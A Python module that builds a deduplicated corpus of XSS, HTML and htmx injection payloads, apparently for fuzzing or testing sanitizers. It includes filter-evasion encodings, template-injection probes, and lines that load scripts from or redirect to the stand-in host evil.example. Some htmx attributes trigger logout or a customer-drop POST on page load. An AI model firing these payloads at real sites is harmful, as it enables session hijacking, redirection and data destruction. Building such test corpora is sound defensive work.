"""Texts that want to become code, markup, requests or links: made from parts, so that no spelling is left out."""

from itertools import product

CODE = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "import('//evil.example/x')")
TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "details open",
    "input autofocus",
    "select autofocus",
    "textarea autofocus",
    "iframe srcdoc=x",
    "object data=x",
    "embed src=x",
    "math",
    "marquee",
    "a href=x autofocus",
    "form action=//evil.example",
    "style",
    "link rel=stylesheet href=//evil.example",
)
HANDLERS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onstart",
    "onmouseover",
    "onpointerrawupdate",
    "onanimationstart",
)
BREAKS = ("", '">', "'>", "--></title></textarea></script>", "]]>", "`>")
SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript://%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "view-source:javascript:alert(1)",
    "https://javascript:alert(1)@x.example",
    "feed:javascript:alert(1)",
    "blob:https://evil.example/x",
)
HX = (
    "hx-get=//evil.example",
    "hx-get=/accounts/logout/ hx-trigger=load",
    "data-hx-get=/customers/ data-hx-trigger=load",
    "hx-post=/customers/drop/ hx-trigger=revealed",
    "hx-on:click=alert(1)",
    "hx-on::load=alert(1)",
    "data-hx-on:htmx:load=alert(1)",
    "hx-swap-oob=true id=main",
    "hx-swap-oob=innerHTML:#main",
    "hx-vals=js:{a:alert(1)}",
    'hx-headers=\'{"X":"1"}\'',
    "hx-ext=x hx-boost=true",
    "hx-include=* hx-target=body",
    "data-opens=drop",
    "data-copy=x",
    "is=copy-text",
)
OTHERS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt/x>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)//",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext></p><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<template><script>alert(1)</script></template>",
    "<hx-partial hx-target='#main'>x</hx-partial>",
    "<copy-text><output>x</output></copy-text>",
    "＜script＞alert(1)＜/script＞",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{ 7*7 }}{% raw %}{{ config }}",
    "${alert(1)}#{alert(1)}<%= alert(1) %>",
    "';alert(1)//",
    '";alert(1)//',
    "</script><script>alert(1)</script>",
    '=HYPERLINK("//evil.example")',
    "\u202e<img src=x onerror=alert(1)>\u202c",
    "\ufeff<svg onload=alert(1)>",
    '<a href="&Tab;javascript:alert(1)">x</a>',
    "<svg><a xlink:href=javascript:alert(1)><text>x",
    "<svg><use href=data:image/svg+xml,x#y>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
)


def corpus() -> list[str]:
    handled = [f"{brk}<{tag} {on}={CODE[(i + j) % 4]}>" for (i, tag), (j, on), brk in woven()]
    attributes = [f"{quote} {on}={CODE[0]} x={quote}" for quote, on in product(('"', "'", "`", ""), HANDLERS)]
    links = [text for scheme in SCHEMES for text in (scheme, f"<a href={scheme}>x</a>", f'"><iframe src={scheme}>')]
    htmx = [text for one in HX for text in (f"<div {one}>x</div>", f'" {one} x="', f"' {one} x='")]
    return list(dict.fromkeys([*OTHERS, *handled, *attributes, *links, *htmx]))


def woven():
    """Every tag with every handler, the ways out of where the text stands taken in turn."""
    for place, (tag, handler) in enumerate(product(enumerate(TAGS), enumerate(HANDLERS))):
        yield tag, handler, BREAKS[place % len(BREAKS)]
